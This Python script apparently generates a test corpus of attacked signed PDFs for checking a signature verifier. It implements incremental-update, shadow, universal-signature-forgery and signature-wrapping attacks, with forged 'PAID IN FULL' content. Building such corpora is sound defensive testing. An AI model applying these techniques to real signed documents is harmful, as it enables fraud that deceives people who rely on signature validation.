#!/usr/bin/env python3
"""Attacked copies of a signed PDF, as the published attacks on PDF signatures make them.

  make-attack-corpus.py prepare UNSIGNED OUT   adds, as an update, a catalog and page that nothing
                                               uses yet (a shadow attack prepared before signing)
  make-attack-corpus.py hole UNSIGNED exact|wide OUT COVERED   a signature dictionary (its /ByteRange
                                               after /Contents) to sign by hand: its hole is exactly
                                               the <…> of /Contents, or wider; COVERED gets the bytes
                                               to sign
  make-attack-corpus.py fill PDF DER           writes the signature DER into that hole
  make-attack-corpus.py attack SIGNED FOLDER [N]   writes FOLDER/<case>.pdf for every case below;
                                               N (default 1) is the signature the cases that edit a
                                               signature dictionary go for; wrapping takes the last

Incremental saving: an unsigned update after the last signature (page content, a new /Root, an
object appended without cross-reference data, bytes after %%EOF). Shadow: the prepared catalog
switched on by a trailer-only update; an overlay annotation. Universal signature forgery: the
signature dictionary's /Contents or /ByteRange rewritten by an update. Wrapping: the second signed
range moved to the end, the attacker's objects in the hole. The files are built byte by byte from
the signed file's own classic cross-reference tables, as the module writes them.
"""
import os
import re
import sys

SHADOW = b"/VeskShadow true"


def last(pattern, data):
    found = list(re.finditer(pattern, data, re.S))
    return found[-1] if found else None


def trailer(data):
    return last(rb"trailer\s*<<(.*?)>>\s*startxref\s*(\d+)", data)


def size_of(data):
    return int(re.search(rb"/Size (\d+)", trailer(data).group(1)).group(1))


def root_of(data):
    return int(re.search(rb"/Root (\d+) 0 R", trailer(data).group(1)).group(1))


def body(data, number):
    """The newest text between "N 0 obj" and "endobj"."""
    return last(rb"(?<![0-9])%d 0 obj\s*(.*?)\s*endobj" % number, data).group(1)


def first_page(data):
    for m in re.finditer(rb"(?<![0-9])(\d+) 0 obj\s*<<", data):
        if re.search(rb"/Type\s*/Page(?![s\w])", body(data, int(m.group(1)))):
            return int(m.group(1))
    raise SystemExit("no page")


def signatures(data):
    """Object numbers of signature dictionaries, in file order."""
    numbers = []
    for m in re.finditer(rb"(?<![0-9])(\d+) 0 obj\s*<<[^>]*?/ByteRange", data):
        if int(m.group(1)) not in numbers:
            numbers.append(int(m.group(1)))
    return numbers


def update(data, objects, root=None, extra_entries=(), prev=None):
    """`data` followed by an incremental update defining `objects` {number: body}."""
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    entries = dict(extra_entries)
    for number, text in sorted(objects.items()):
        entries[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    old = trailer(data)
    xref = len(out)
    out += b"xref\n"
    if not entries:
        out += b"0 1\n0000000000 65535 f \n"
    for number, offset in sorted(entries.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    size = max([size_of(data)] + [n + 1 for n in entries])
    keep = b"".join(m.group(0) for m in re.finditer(rb"/(?:Info \d+ 0 R|ID\s*\[[^\]]*\]|Encrypt \d+ 0 R)", old.group(1)))
    out += b"trailer\n<</Size %d/Root %d 0 R/Prev %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root or root_of(data), prev if prev is not None else int(old.group(2)), keep, xref)
    return bytes(out)


def stream(text):
    return b"<</Length %d>>\nstream\n%s\nendstream" % (len(text), text)


PAID = stream(b"BT /F1 36 Tf 72 400 Td (PAID IN FULL) Tj ET")


def with_key(text, key, value):
    """The dictionary text with /key set to `value` (removed when None)."""
    text = re.sub(rb"/%s\s*(\d+ 0 R|\[[^\]]*\]|<[0-9A-Fa-f\s]*>|\([^)]*\)|/[^\s/<>\[\]()]+|[-\d.]+|null|true|false)"
                  % key, b"", text, count=1)
    return text if value is None else text[:2] + b"/%s %s" % (key, value) + text[2:]


def edit_signature(data, number, key, value):
    return update(data, {number: with_key(body(data, number), key, value)})


def byte_range(data, number):
    m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)", body(data, number))
    return [int(v) for v in m.groups()]


def page_content(data):
    page = first_page(data)
    n = size_of(data)
    return update(data, {n: PAID, page: with_key(body(data, page), b"Contents", b"%d 0 R" % n)})


def new_root(data):
    n = size_of(data)
    return update(data, {n: with_key(body(data, root_of(data)), b"PageMode", b"/FullScreen")}, root=n)


def object_without_xref(data):
    page = first_page(data)
    return data + b"%d 0 obj\n%s\nendobj\n" % (page, with_key(body(data, page), b"Rotate", b"90"))


def shadow_root_swap(data):
    shadow = last(rb"(?<![0-9])(\d+) 0 obj\s*<<[^>]*?" + re.escape(SHADOW), data)
    return update(data, {}, root=int(shadow.group(1)))


def shadow_overlay(data):
    page = first_page(data)
    n = size_of(data)
    text = body(data, page)
    annots = re.search(rb"/Annots\s*\[([^\]]*)\]", text)
    listed = (annots.group(1) if annots else b"") + b" %d 0 R" % n
    cover = stream(b"1 1 1 rg 0 0 612 792 re f BT /F1 36 Tf 0 0 0 rg 72 400 Td (PAID IN FULL) Tj ET")
    return update(data, {
        n: b"<</Type/Annot/Subtype/FreeText/Rect[0 0 612 792]/F 4/DA(/Helv 12 Tf 0 g)/AP<</N %d 0 R>>>>" % (n + 1),
        n + 1: cover.replace(b"<<", b"<</Type/XObject/Subtype/Form/BBox[0 0 612 792]", 1),
        page: with_key(text, b"Annots", b"[%s]" % listed)})


def wrapping(data):
    number = signatures(data)[-1]
    a, b, c, d = byte_range(data, number)
    old = trailer(data)
    page = first_page(data)
    n = size_of(data)

    def region(shift):
        text = with_key(body(data, number), b"ByteRange", b"[0 %d %d %d]" % (b, c + shift, d))
        return (b"\n%d 0 obj\n%s\nendobj\n%d 0 obj\n%s\nendobj\n%d 0 obj\n%s\nendobj\n" %
                (n, PAID, page, with_key(body(data, page), b"Contents", b"%d 0 R" % n), number, text))

    shift = len(region(0))
    shift = len(region(shift))
    inserted = region(shift)
    moved = data[:c] + inserted + data[c:]
    # The moved revision's own table, its offsets after the hole shifted with it.
    table = re.search(rb"xref\s*(.*?)trailer", data[int(old.group(2)):], re.S).group(1)
    entries = {}
    for sub in re.finditer(rb"(\d+) (\d+)\s+((?:\d{10} \d{5} [nf]\s*)+)", table):
        for i, entry in enumerate(re.findall(rb"(\d{10}) \d{5} ([nf])", sub.group(3))):
            if entry[1] == b"n":
                offset = int(entry[0])
                entries[int(sub.group(1)) + i] = offset + shift if offset >= c else offset
    entries[n] = c + inserted.index(b"%d 0 obj" % n)
    entries[page] = c + inserted.index(b"\n%d 0 obj" % page) + 1
    entries[number] = c + inserted.index(b"\n%d 0 obj" % number) + 1
    return update(moved, {}, extra_entries=entries, prev=int(old.group(2)) + shift)


def cases(data, target):
    number = signatures(data)[target - 1]
    a, b, c, d = byte_range(data, number)
    made = {
        "incremental-page-content": page_content(data),
        "incremental-new-root": new_root(data),
        "incremental-object-without-xref": object_without_xref(data),
        "incremental-bytes-after-eof": data + b"\n% appended\n",
        "shadow-overlay-annotation": shadow_overlay(data),
        "usf-contents-removed": edit_signature(data, number, b"Contents", None),
        "usf-contents-null": edit_signature(data, number, b"Contents", b"null"),
        "usf-contents-replaced": edit_signature(data, number, b"Contents", b"<3082000130>"),
        "usf-byterange-missing": edit_signature(data, number, b"ByteRange", None),
        "usf-byterange-null": edit_signature(data, number, b"ByteRange", b"null"),
        "usf-byterange-empty": edit_signature(data, number, b"ByteRange", b"[]"),
        "usf-byterange-strings": edit_signature(data, number, b"ByteRange", b"[(0) (1) (2) (3)]"),
        "usf-byterange-negative": edit_signature(data, number, b"ByteRange", b"[0 %d -%d %d]" % (b, c, d)),
        "usf-byterange-past-end": edit_signature(data, number, b"ByteRange", b"[0 %d %d %d]" % (b, c, d * 9)),
        "usf-byterange-first-not-at-zero": edit_signature(data, number, b"ByteRange", b"[1 %d %d %d]" % (b - 1, c, d)),
        "usf-byterange-short-of-revision-end": edit_signature(data, number, b"ByteRange",
                                                               b"[0 %d %d %d]" % (b, c, d - 20)),
        "wrapping-second-range-moved": wrapping(data),
    }
    if SHADOW in data:
        made["shadow-root-swap"] = shadow_root_swap(data)
    return made


def prepare(data):
    page = first_page(data)
    n = size_of(data)
    catalog = with_key(body(data, root_of(data)), b"Pages", b"%d 0 R" % (n + 1))
    return update(data, {
        n: catalog[:2] + SHADOW + catalog[2:],
        n + 1: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 2),
        n + 2: with_key(with_key(body(data, page), b"Parent", b"%d 0 R" % (n + 1)), b"Contents", b"%d 0 R" % (n + 3)),
        n + 3: PAID})


def hole(data, wide):
    """An unsigned PDF with a signature dictionary whose /ByteRange follows /Contents, and the
    bytes its ranges cover; `wide`: the hole also takes in the signing time after /Contents."""
    page, root, n = first_page(data), root_of(data), size_of(data)
    catalog = with_key(body(data, root), b"AcroForm", b"<</Fields[%d 0 R]/SigFlags 3>>" % n)
    out = update(data, {
        n: b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Outside)/Rect[0 0 0 0]/P %d 0 R/V %d 0 R>>" % (page, n + 1),
        n + 1: b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/Contents<%s>/M(D:20260101000000Z)"
               b"/ByteRange[0 0000000000 0000000000 0000000000]>>" % (b"0" * 16384),
        root: catalog})
    start = out.index(b"/Contents<", out.index(b"%d 0 obj" % (n + 1))) + 9
    end = out.index(b"/ByteRange", start) if wide else out.index(b">", start) + 1
    out = out.replace(b"[0 0000000000 0000000000 0000000000]", b"[0 %010d %010d %010d]" % (start, end, len(out) - end))
    return out, out[:start] + out[end:]


def fill(data, der):
    """The signature's hex written into the hole of the last /ByteRange."""
    start = int(last(rb"/ByteRange\s*\[\s*0+\s+(\d+)", data).group(1)) + 1
    digits = der.hex().upper().encode()
    return data[:start] + digits + data[start + len(digits):]


def main():
    if len(sys.argv) == 4 and sys.argv[1] == "prepare":
        open(sys.argv[3], "wb").write(prepare(open(sys.argv[2], "rb").read()))
    elif len(sys.argv) in (4, 5) and sys.argv[1] == "attack":
        data = open(sys.argv[2], "rb").read()
        os.makedirs(sys.argv[3], exist_ok=True)
        for name, attacked in cases(data, int(sys.argv[4]) if len(sys.argv) == 5 else 1).items():
            open(os.path.join(sys.argv[3], name + ".pdf"), "wb").write(attacked)
    elif len(sys.argv) == 6 and sys.argv[1] == "hole":
        pdf, covered = hole(open(sys.argv[2], "rb").read(), sys.argv[3] == "wide")
        open(sys.argv[4], "wb").write(pdf)
        open(sys.argv[5], "wb").write(covered)
    elif len(sys.argv) == 4 and sys.argv[1] == "fill":
        filled = fill(open(sys.argv[2], "rb").read(), open(sys.argv[3], "rb").read())
        open(sys.argv[2], "wb").write(filled)
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
